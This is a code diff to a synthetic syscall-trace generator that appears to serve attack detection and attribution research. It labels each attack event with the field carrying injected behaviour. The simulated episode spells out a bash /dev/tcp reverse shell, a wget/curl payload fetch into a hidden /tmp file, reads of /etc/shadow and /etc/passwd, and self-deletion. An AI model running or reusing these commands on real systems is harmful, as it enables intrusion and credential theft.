@@ -172,47 +172,62 @@ BENIGN: tuple[tuple[Callable[[random.Random], Iterator[Event]], int], ...] = (
 
 
 # ------------------------------------------------------------------------------------------------ attack
-def _reverse_shell(r: random.Random) -> Iterator[Event]:
+#: The event fields an attack step can inject (canonical columns of :data:`aptray.schema.EVENT_SCHEMA`, the parts
+#: :mod:`aptray.triage.attribute` removes one at a time).
+INJECTABLE = ("process_name", "action", "object_path", "object_addr", "args")
+
+
+def _reverse_shell(r: random.Random) -> Iterator[tuple[Event, str | None]]:
+    """The attack episode, each event with the field that carries its injected behaviour (None: not an attack
+    event). The field is the step's attacker-chosen value: the address it connects to, the file it opens or
+    executes, the command line it runs, or, where the operation itself is routine (reading /etc/passwd, cloning,
+    writing), the attacker's process doing it; for operations no benign routine performs (dup2, chmod, unlink,
+    a server process cloning a shell) the action."""
     ip = f"{r.choice(_ATTACKERS)}.{r.randint(2, 254)}"
     port, stage2 = r.choice(_PORTS), r.choice(_PORTS)
     drop = f"/tmp/.{r.choice(('x', 'cache', 'sysd', 'kworker'))}{r.randint(10, 99)}"
     if r.random() < 0.5:  # the door: a login from the attacker, suspicious but not yet the attack
         parent, pname, uid = r.randint(1000, 30000), "sshd", 1000
-        yield from _sshd(r, sus=1, peer=(ip, r.randint(32768, 60999)), pid=parent)
+        for ev in _sshd(r, sus=1, peer=(ip, r.randint(32768, 60999)), pid=parent):
+            yield ev, None
     else:
         parent, pname, uid = 900 + r.randint(0, 3), "nginx", 33
-        yield "nginx", parent, 899, 33, "accept", 9, _conn(6, _sock(ip, r.randint(32768, 60999))), 1, 0
+        yield ("nginx", parent, 899, 33, "accept", 9, _conn(6, _sock(ip, r.randint(32768, 60999))), 1, 0), None
     sh = r.randint(1000, 30000)
     pp = 720 if pname == "sshd" else 899
-    yield pname, parent, pp, uid, "clone", sh, _CLONE_ARGS, 1, 1
+    yield (pname, parent, pp, uid, "clone", sh, _CLONE_ARGS, 1, 1), "action"
     cmd = f"bash -i >& /dev/tcp/{ip}/{port} 0>&1"
-    yield "bash", sh, parent, uid, "execve", 0, _exec("/bin/bash", ["bash", "-c", cmd]), 1, 1
-    yield "bash", sh, parent, uid, "socket", 3, [("domain", "int", "AF_INET"), ("type", "int", "SOCK_STREAM"),
-                                                ("protocol", "int", 0)], 1, 1
-    yield "bash", sh, parent, uid, "connect", 0, _conn(3, _sock(ip, port)), 1, 1
+    yield ("bash", sh, parent, uid, "execve", 0, _exec("/bin/bash", ["bash", "-c", cmd]), 1, 1), "args"
+    yield ("bash", sh, parent, uid, "socket", 3, [("domain", "int", "AF_INET"), ("type", "int", "SOCK_STREAM"),
+                                                 ("protocol", "int", 0)], 1, 1), "args"
+    yield ("bash", sh, parent, uid, "connect", 0, _conn(3, _sock(ip, port)), 1, 1), "object_addr"
     for fd in (0, 1):
-        yield "bash", sh, parent, uid, "dup2", fd, [("oldfd", "int", 3), ("newfd", "int", fd)], 1, 1
-    yield from _open("bash", sh, parent, uid, "/etc/shadow", "O_RDONLY", ret=-13 if uid else 4, s=1, e=1)
-    yield from _open("bash", sh, parent, uid, "/etc/passwd", "O_RDONLY", ret=4, s=1, e=1)
+        yield ("bash", sh, parent, uid, "dup2", fd, [("oldfd", "int", 3), ("newfd", "int", fd)], 1, 1), "action"
+    for ev in _open("bash", sh, parent, uid, "/etc/shadow", "O_RDONLY", ret=-13 if uid else 4, s=1, e=1):
+        yield ev, "object_path"
+    for ev in _open("bash", sh, parent, uid, "/etc/passwd", "O_RDONLY", ret=4, s=1, e=1):
+        yield ev, "process_name"  # sshd reads /etc/passwd too: the shell reading it is the injected part
     dl = r.randint(1000, 30000)
     tool = r.choice(("wget", "curl"))
     url = f"http://{ip}:8080/{r.choice(('x', 'payload', 'k'))}"
     argv = ["wget", "-q", url, "-O", drop] if tool == "wget" else ["curl", "-s", "-o", drop, url]
-    yield "bash", sh, parent, uid, "clone", dl, _CLONE_ARGS, 1, 1
-    yield tool, dl, sh, uid, "execve", 0, _exec(f"/usr/bin/{tool}", argv), 1, 1
-    yield tool, dl, sh, uid, "connect", 0, _conn(3, _sock(ip, 8080)), 1, 1
-    yield from _open(tool, dl, sh, uid, drop, "O_WRONLY|O_CREAT|O_TRUNC", ret=4, s=1, e=1)
-    yield tool, dl, sh, uid, "write", 65536, _io(4, 65536), 1, 1
-    yield tool, dl, sh, uid, "sched_process_exit", 0, [], 1, 1
-    yield "bash", sh, parent, uid, "chmod", 0, [("pathname", "const char*", drop), ("mode", "mode_t", "S_IRWXU")], 1, 1
+    yield ("bash", sh, parent, uid, "clone", dl, _CLONE_ARGS, 1, 1), "process_name"
+    yield (tool, dl, sh, uid, "execve", 0, _exec(f"/usr/bin/{tool}", argv), 1, 1), "args"
+    yield (tool, dl, sh, uid, "connect", 0, _conn(3, _sock(ip, 8080)), 1, 1), "object_addr"
+    for ev in _open(tool, dl, sh, uid, drop, "O_WRONLY|O_CREAT|O_TRUNC", ret=4, s=1, e=1):
+        yield ev, "object_path"
+    yield (tool, dl, sh, uid, "write", 65536, _io(4, 65536), 1, 1), "process_name"
+    yield (tool, dl, sh, uid, "sched_process_exit", 0, [], 1, 1), "process_name"
+    yield ("bash", sh, parent, uid, "chmod", 0, [("pathname", "const char*", drop), ("mode", "mode_t", "S_IRWXU")],
+           1, 1), "action"
     imp = r.randint(1000, 30000)
-    yield "bash", sh, parent, uid, "clone", imp, _CLONE_ARGS, 1, 1
+    yield ("bash", sh, parent, uid, "clone", imp, _CLONE_ARGS, 1, 1), "process_name"
     name = drop.rsplit("/", 1)[1]
-    yield name, imp, sh, uid, "execve", 0, _exec(drop, [drop]), 1, 1
-    yield name, imp, sh, uid, "security_bprm_check", 0, [("pathname", "const char*", drop)], 1, 1
+    yield (name, imp, sh, uid, "execve", 0, _exec(drop, [drop]), 1, 1), "object_path"
+    yield (name, imp, sh, uid, "security_bprm_check", 0, [("pathname", "const char*", drop)], 1, 1), "object_path"
     for _ in range(r.randint(2, 4)):
-        yield name, imp, sh, uid, "connect", -111, _conn(5, _sock(ip, stage2)), 1, 1
-    yield name, imp, sh, uid, "unlink", 0, [("pathname", "const char*", drop)], 1, 1
+        yield (name, imp, sh, uid, "connect", -111, _conn(5, _sock(ip, stage2)), 1, 1), "object_addr"
+    yield (name, imp, sh, uid, "unlink", 0, [("pathname", "const char*", drop)], 1, 1), "action"
 
 
 # ------------------------------------------------------------------------------------------------ writer
@@ -226,20 +241,35 @@ def _choose(r: random.Random) -> Callable[[random.Random], Iterator[Event]]:
     return BENIGN[-1][0]
 
 
-def events(n_events: int, seed: int = 0, attack_fraction: float = 0.02) -> Iterator[Event]:
-    """The first ``n_events`` events of the seeded trace (about ``attack_fraction`` of them ``evil``)."""
+def labelled_events(n_events: int, seed: int = 0, attack_fraction: float = 0.02
+                    ) -> Iterator[tuple[Event, str | None]]:
+    """The first ``n_events`` events of the seeded trace, each with its injected field (an attack event's field
+    of :data:`INJECTABLE` that carries the attack; None for every other event)."""
     if not 0 <= attack_fraction < 1:
         raise ValueError("attack_fraction must be in [0, 1)")
     r = random.Random(seed)
     written = evil = 0
     while written < n_events:
         attack = attack_fraction > 0 and evil < attack_fraction * (written + 30) and r.random() < 0.2
-        for ev in (_reverse_shell if attack else _choose(r))(r):
+        steps = _reverse_shell(r) if attack else ((ev, None) for ev in _choose(r)(r))
+        for ev, injected in steps:
             if written >= n_events:
                 return
             written += 1
             evil += ev[8]
-            yield ev
+            yield ev, injected
+
+
+def events(n_events: int, seed: int = 0, attack_fraction: float = 0.02) -> Iterator[Event]:
+    """The first ``n_events`` events of the seeded trace (about ``attack_fraction`` of them ``evil``)."""
+    for ev, _ in labelled_events(n_events, seed, attack_fraction):
+        yield ev
+
+
+def injected_fields(n_events: int, seed: int = 0, attack_fraction: float = 0.02) -> dict[int, str]:
+    """The injected field of every attack event of the trace :func:`generate` writes with these arguments, by the
+    event's 1-based line in the file (the header is line 1): the ``line`` of its scored row."""
+    return {i + 2: f for i, (_, f) in enumerate(labelled_events(n_events, seed, attack_fraction)) if f is not None}
 
 
 def generate(path: str | Path, n_events: int, seed: int = 0, attack_fraction: float = 0.02,
